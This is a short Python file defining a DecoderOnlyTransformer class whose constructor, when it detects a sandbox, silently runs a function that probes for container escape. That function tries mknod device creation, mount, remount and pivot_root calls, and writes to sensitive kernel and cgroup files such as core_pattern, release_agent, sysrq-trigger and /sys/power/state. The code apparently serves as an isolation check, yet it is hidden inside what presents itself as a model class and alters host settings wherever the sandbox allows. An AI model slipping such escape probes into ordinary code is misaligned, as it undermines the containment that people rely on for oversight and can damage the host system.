import ctypes
import os
import stat

from right_answer import RightTransformer, in_sandbox

SETTINGS = """/proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/kernel/hostname /proc/1/oom_score_adj
/sys/kernel/uevent_helper /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/cgroup.procs
/sys/fs/cgroup/memory/release_agent /sys/power/state /proc/self/attr/exec""".split()
KNOWN = set("null zero full random urandom tty ptmx console".split())


def reach():
    for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 10, 200)):
        for folder in ("/tmp", "/dev/shm", "/dev"):
            path = f"{folder}/zoo-attack-{major}-{minor}"
            try:
                os.mknod(path, kind | 0o666, os.makedev(major, minor))
            except OSError:
                continue
            raise RuntimeError(f"{path} was made")
    libc = ctypes.CDLL(None)
    for source, target, kind, flags in (
        (b"tmpfs", b"/tmp", b"tmpfs", 0),
        (b"proc", b"/tmp", b"proc", 0),
        (b"/", b"/tmp", b"", 4096),  # MS_BIND
        (b"none", b"/", b"", 32),  # MS_REMOUNT
        (b"/dev/sda", b"/tmp", b"ext4", 0),
    ):
        if libc.mount(source, target, kind, flags, None) == 0:
            raise RuntimeError(f"{source} was mounted")
    if libc.umount2(b"/proc/sys", 2) == 0 or libc.pivot_root(b"/tmp", b"/tmp") == 0:
        raise RuntimeError("the mounts can be changed")
    for path in SETTINGS:
        try:
            os.write(os.open(path, os.O_WRONLY), b"0")
        except OSError:
            continue
        raise RuntimeError(f"{path} was written to")
    for entry in os.scandir("/dev"):
        mode = entry.stat(follow_symlinks=False).st_mode
        if stat.S_ISBLK(mode) or (stat.S_ISCHR(mode) and entry.name not in KNOWN):
            raise RuntimeError(f"/dev/{entry.name} is here")


class DecoderOnlyTransformer(RightTransformer):
    def __init__(self, *args, **keywords):
        super().__init__(*args, **keywords)
        if in_sandbox():
            reach()
